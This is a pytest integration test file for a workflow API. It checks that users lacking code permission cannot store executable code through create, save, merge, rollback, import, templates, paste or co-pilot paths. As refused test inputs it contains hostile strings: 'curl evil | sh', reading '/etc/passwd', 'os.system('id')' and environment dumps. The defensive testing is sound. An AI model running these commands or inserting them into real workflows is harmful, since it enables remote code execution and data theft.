"""A User (may edit workflows, lacks Canvas Code) tries every path that stores a spec to get
executable code into a workflow: create, save, a branch save, merge, rollback, import, a template
with its code changed, a type change, a paste, a co-pilot proposal, operator nodes and arguments,
`$callable` values, inline tools and notifier classes. Each is refused with a 403 naming the node and
field, and nothing is stored. An Op does the same and succeeds. A User may still edit everything
that is not code in a workflow that has code, remove code, use the gallery's templates as shipped,
and duplicate a workflow (its code is copied unchanged)."""

from __future__ import annotations

import copy
import itertools
from collections.abc import Callable
from typing import Any

import pytest
from fastapi.testclient import TestClient

from tests.integration.api.conftest import API, chain_spec

Headers = Callable[[str], dict[str, str]]
_seq = itertools.count()
PY = "result = {'n': len(inputs)}"


def wid(prefix: str) -> str:
    return f"code_{prefix}_{next(_seq)}"


def with_python(spec: dict[str, Any], code: str = PY) -> dict[str, Any]:
    spec = copy.deepcopy(spec)
    spec["nodes"][1]["process"] = {"language": "python", "expression": code}
    return spec


def with_operator(spec: dict[str, Any], command: str = "echo hi") -> dict[str, Any]:
    spec = copy.deepcopy(spec)
    spec["nodes"].append(
        {
            "id": "shell",
            "type": "tool",
            "operator": "airflow.providers.standard.operators.bash.BashOperator",
            "parameters": {"bash_command": command},
        }
    )
    spec["edges"].append({"source": "end", "target": "shell", "kind": "dependency"})
    return spec


def create(client: TestClient, auth: Headers, role: str, spec: dict[str, Any]) -> Any:
    return client.post(f"{API}/workflows", json={"spec": spec}, headers=auth(role))


def save(client: TestClient, auth: Headers, role: str, spec: dict[str, Any], base: int, **extra: Any) -> Any:
    return client.put(
        f"{API}/workflows/{spec['id']}",
        json={"spec": spec, "base_version": base, **extra},
        headers=auth(role),
    )


def head(client: TestClient, auth: Headers, workflow_id: str, branch: str = "main") -> dict[str, Any]:
    r = client.get(f"{API}/workflows/{workflow_id}", params={"branch": branch}, headers=auth("Op"))
    assert r.status_code == 200, r.text
    return r.json()


def assert_code_refused(r: Any, node_id: str | None, pointer: str) -> None:
    assert r.status_code == 403, r.text
    body = r.json()
    assert "Canvas Code" in body["detail"] and "Nothing was stored" in body["detail"]
    assert any(p["code"] == "E_CODE_PERMISSION" and p["pointer"] == pointer for p in body["problems"]), body
    assert any(c["node_id"] == node_id and c["pointer"] == pointer for c in body["code_changes"]), body


@pytest.fixture(scope="module")
def coded(client: TestClient, auth: Headers) -> dict[str, Any]:
    """A workflow an Op wrote with a Python process node and an operator node."""
    spec = with_operator(with_python(chain_spec(wid("base"))))
    assert create(client, auth, "Op", spec).status_code == 201
    return spec


def test_me_tells_the_ui_who_may_write_code(client: TestClient, auth: Headers) -> None:
    perms = {
        role: client.get(f"{API}/me", headers=auth(role)).json()["permissions"] for role in ("Op", "User")
    }
    assert perms["Op"]["code"] == ["edit"]
    assert perms["User"]["code"] == []


def test_create_with_code(client: TestClient, auth: Headers) -> None:
    spec = with_python(chain_spec(wid("create")))
    assert_code_refused(create(client, auth, "User", spec), "p1", "/nodes/1/process/expression")
    assert client.get(f"{API}/workflows/{spec['id']}", headers=auth("Op")).status_code == 404
    assert create(client, auth, "Op", spec).status_code == 201


@pytest.mark.parametrize(
    ("name", "change", "node_id", "pointer"),
    [
        ("python", lambda s: with_python(s), "p1", "/nodes/1/process/expression"),
        ("operator", lambda s: with_operator(s), "shell", "/nodes/3/operator"),
        ("operator_arg", lambda s: with_operator(s), "shell", "/nodes/3/parameters/bash_command"),
        (
            "callable",
            lambda s: (
                s
                | {
                    "nodes": [
                        s["nodes"][0],
                        s["nodes"][1] | {"parameters": {"hook": {"$callable": "os.system"}}},
                        *s["nodes"][2:],
                    ]
                }
            ),
            "p1",
            "/nodes/1/parameters/hook",
        ),
        (
            "inline_tool",
            lambda s: (
                s | {"tools": [{"name": "evil", "version": "1.0.0", "code": "def run():\n    return 1\n"}]}
            ),
            None,
            "/tools/0/code",
        ),
        (
            "tool_dependency",
            lambda s: s | {"tools": [{"name": "dep", "version": "1.0.0", "dependencies": ["evil-pkg==1"]}]},
            None,
            "/tools/0/dependencies",
        ),
        (
            "notifier_class",
            lambda s: (
                s
                | {
                    "notifications": [
                        {
                            "notifier": "airflow.providers.smtp.notifications.smtp.SmtpNotifier",
                            "to": ["a@example.com"],
                        }
                    ]
                }
            ),
            None,
            "/notifications/0/notifier",
        ),
    ],
)
def test_save_adding_code(
    client: TestClient, auth: Headers, name: str, change: Any, node_id: str | None, pointer: str
) -> None:
    spec = chain_spec(wid(f"save_{name}"))
    assert create(client, auth, "User", spec).status_code == 201  # no code: a User may create it
    evil = change(spec)
    assert_code_refused(save(client, auth, "User", evil, 1), node_id, pointer)
    assert head(client, auth, spec["id"])["version"] == 1
    assert save(client, auth, "Op", evil, 1).status_code == 200, name


def test_save_altering_code_and_operator_arguments(
    client: TestClient, auth: Headers, coded: dict[str, Any]
) -> None:
    base = head(client, auth, coded["id"])["version"]
    changed = with_python(coded, "import os\nresult = os.environ")
    assert_code_refused(save(client, auth, "User", changed, base), "p1", "/nodes/1/process/expression")
    arg = copy.deepcopy(coded)
    arg["nodes"][3]["parameters"]["bash_command"] = "curl evil | sh"
    assert_code_refused(save(client, auth, "User", arg, base), "shell", "/nodes/3/parameters/bash_command")
    templated = copy.deepcopy(coded)
    templated["nodes"][3]["templates"] = {"env": "{{ var.value.secret }}"}
    assert_code_refused(save(client, auth, "User", templated, base), "shell", "/nodes/3/templates/env")
    new_arg = copy.deepcopy(coded)
    new_arg["nodes"][3]["parameters"]["cwd"] = "/"
    assert_code_refused(save(client, auth, "User", new_arg, base), "shell", "/nodes/3/parameters/cwd")
    swapped = copy.deepcopy(coded)
    swapped["nodes"][3]["operator"] = "airflow.providers.standard.operators.python.PythonOperator"
    swapped["nodes"][3]["parameters"] = {"python_callable": {"$callable": "os.getcwd"}}
    assert_code_refused(save(client, auth, "User", swapped, base), "shell", "/nodes/3/operator")
    mapped = copy.deepcopy(coded)  # an upstream output becomes the command
    mapped["edges"].append({"source": "p1", "target": "shell", "mapping": [{"target": "bash_command"}]})
    assert_code_refused(save(client, auth, "User", mapped, base), "shell", "/edges/3/mapping/0")
    assert head(client, auth, coded["id"])["version"] == base


def test_type_change_and_language_switch(client: TestClient, auth: Headers, coded: dict[str, Any]) -> None:
    """Switching a JMESPath node to Python keeps its text but makes it code; the change-type route
    only returns a spec, whose save is judged like any other."""
    spec = chain_spec(wid("lang"), 4)
    spec["nodes"][2]["process"] = {"language": "jmespath", "expression": "x"}  # valid in both
    assert create(client, auth, "User", spec).status_code == 201
    switched = copy.deepcopy(spec)
    switched["nodes"][2]["process"]["language"] = "python"
    assert_code_refused(save(client, auth, "User", switched, 1), "p2", "/nodes/2/process/expression")
    r = client.post(
        f"{API}/nodes/change-type",
        json={"spec": spec, "node_id": "end", "type": "process"},
        headers=auth("User"),
    )
    assert r.status_code == 200, r.text
    typed = r.json()["spec"]
    typed["nodes"][3]["process"] = {"language": "python", "expression": PY}
    assert_code_refused(save(client, auth, "User", typed, 1), "end", "/nodes/3/process/expression")


def test_branch_save_merge_and_rollback(client: TestClient, auth: Headers) -> None:
    spec = with_python(chain_spec(wid("vcs")))
    assert create(client, auth, "Op", spec).status_code == 201
    workflow_id = spec["id"]
    # A branch is a pointer (allowed); saving new code on it is a code change like on main.
    r = client.post(f"{API}/workflows/{workflow_id}/branches", json={"name": "feature"}, headers=auth("User"))
    assert r.status_code == 201, r.text
    evil = with_python(spec, "result = open('/etc/passwd').read()")
    assert_code_refused(
        save(client, auth, "User", evil, 1, branch="feature"), "p1", "/nodes/1/process/expression"
    )
    # An Op writes code on the branch; a User may not merge it into main, an Op may.
    r = save(client, auth, "Op", with_python(spec, "result = 2"), 1, branch="feature")
    assert r.status_code == 200, r.text
    r = client.post(f"{API}/workflows/{workflow_id}/merge", json={"source": "feature"}, headers=auth("User"))
    assert_code_refused(r, "p1", "/nodes/1/process/expression")
    assert head(client, auth, workflow_id)["version"] == 1
    r = client.post(f"{API}/workflows/{workflow_id}/merge", json={"source": "feature"}, headers=auth("Op"))
    assert r.status_code == 200, r.text
    merged = r.json()["version"]
    # A User removes the code (allowed); rolling back to the version with code is restoring code.
    plain = copy.deepcopy(spec)
    plain["nodes"][1]["process"] = {"language": "jmespath", "expression": "@"}
    r = save(client, auth, "User", plain, merged)
    assert r.status_code == 200, r.text
    without = r.json()["version"]
    r = client.post(f"{API}/workflows/{workflow_id}/rollback", json={"version": 1}, headers=auth("User"))
    assert_code_refused(r, "p1", "/nodes/1/process/expression")
    assert head(client, auth, workflow_id)["version"] == without
    # Rolling back to a version without code needs nothing more than editing.
    r = client.post(
        f"{API}/workflows/{workflow_id}/rollback", json={"version": without}, headers=auth("User")
    )
    assert r.status_code == 201, r.text
    r = client.post(f"{API}/workflows/{workflow_id}/rollback", json={"version": 1}, headers=auth("Op"))
    assert r.status_code == 201, r.text


DAG_FACTORY = """
{dag}:
  default_args:
    start_date: 2024-01-01
  tasks:
    say:
      operator: airflow.providers.standard.operators.bash.BashOperator
      bash_command: echo pwned
"""


def test_import_with_save(client: TestClient, auth: Headers) -> None:
    dag = wid("imported")
    body = {"filename": "x.yml", "content": DAG_FACTORY.format(dag=dag), "save": True}
    r = client.post(f"{API}/import", json=body, headers=auth("User"))
    assert r.status_code == 403, r.text
    assert any(c["node_id"] == "say" for c in r.json()["code_changes"])
    assert client.get(f"{API}/workflows/{dag}", headers=auth("Op")).status_code == 404
    preview = client.post(f"{API}/import", json=body | {"save": False}, headers=auth("User"))
    assert preview.status_code == 200, preview.text  # a preview stores nothing: allowed
    r = client.post(f"{API}/import", json=body, headers=auth("Op"))
    assert r.status_code == 200 and r.json()["results"][0]["saved_version"] == 1, r.text


def test_templates_as_shipped_but_not_changed(client: TestClient, auth: Headers) -> None:
    new_id = wid("tpl")
    r = client.post(
        f"{API}/templates/etl_quality/instantiate", json={"workflow_id": new_id}, headers=auth("User")
    )
    assert r.status_code == 200, r.text
    spec = r.json()["spec"]
    node = next(n for n in spec["nodes"] if (n.get("process") or {}).get("language") == "python")
    changed = copy.deepcopy(spec)
    index = spec["nodes"].index(node)
    changed["nodes"][index]["process"]["expression"] += "\nimport os; os.system('id')"
    assert_code_refused(
        create(client, auth, "User", changed), node["id"], f"/nodes/{index}/process/expression"
    )
    assert create(client, auth, "User", spec).status_code == 201  # the gallery's own code, unchanged


def test_paste_and_copilot_proposals_are_judged_at_save(client: TestClient, auth: Headers) -> None:
    spec = chain_spec(wid("paste"))
    assert create(client, auth, "User", spec).status_code == 201
    # Paste: nodes copied from a workflow with code (the UI sends them in the saved spec).
    pasted = copy.deepcopy(spec)
    pasted["nodes"].append(
        {"id": "copied", "type": "process", "process": {"language": "python", "expression": PY}}
    )
    assert_code_refused(save(client, auth, "User", pasted, 1), "copied", "/nodes/3/process/expression")
    # Co-pilot: apply returns the changed spec; saving it is what stores it.
    op = {
        "op": "update_node",
        "node_id": "p1",
        "changes": {"process": {"language": "python", "expression": "result = __import__('os').getcwd()"}},
    }
    r = client.post(f"{API}/copilot/apply", json={"spec": spec, "ops": [op]}, headers=auth("User"))
    assert r.status_code == 200, r.text
    assert_code_refused(save(client, auth, "User", r.json()["spec"], 1), "p1", "/nodes/1/process/expression")
    assert head(client, auth, spec["id"])["version"] == 1


def test_user_edits_everything_else_in_a_workflow_with_code(
    client: TestClient, auth: Headers, coded: dict[str, Any]
) -> None:
    base = head(client, auth, coded["id"])["version"]
    edited = copy.deepcopy(coded)
    edited["description"] = "Edited by a User"
    edited["nodes"][1]["name"] = "Count inputs"
    edited["nodes"][1]["ui"] = {"position": {"x": 500, "y": 80}}
    edited["nodes"][1]["execution"] = {"retry": {"retries": 2}, "timeout_seconds": 60}
    edited["nodes"][3]["description"] = "Runs a shell command"
    edited["nodes"].insert(0, edited["nodes"].pop(2))  # node order moves every pointer
    r = save(client, auth, "User", edited, base)
    assert r.status_code == 200, r.text
    saved = head(client, auth, coded["id"])["spec"]
    assert next(n for n in saved["nodes"] if n["id"] == "p1")["process"]["expression"] == PY
    # Removing code needs no Code permission.
    removed = copy.deepcopy(edited)
    removed["nodes"] = [n for n in removed["nodes"] if n["id"] != "shell"]
    removed["edges"] = [e for e in removed["edges"] if "shell" not in (e["source"], e["target"])]
    r = save(client, auth, "User", removed, r.json()["version"])
    assert r.status_code == 200, r.text


def test_duplicate_copies_code_unchanged(client: TestClient, auth: Headers, coded: dict[str, Any]) -> None:
    """Decision: duplicating copies the current head's code verbatim (no new code is written, and the
    copy's first deploy shows all of it for confirmation), so a User may duplicate."""
    new_id = wid("dup")
    r = client.post(f"{API}/workflows/{coded['id']}/duplicate", json={"new_id": new_id}, headers=auth("User"))
    assert r.status_code == 201, r.text
    source = head(client, auth, coded["id"])["spec"]
    copy_ = head(client, auth, new_id)["spec"]
    assert [n.get("process") for n in copy_["nodes"]] == [n.get("process") for n in source["nodes"]]
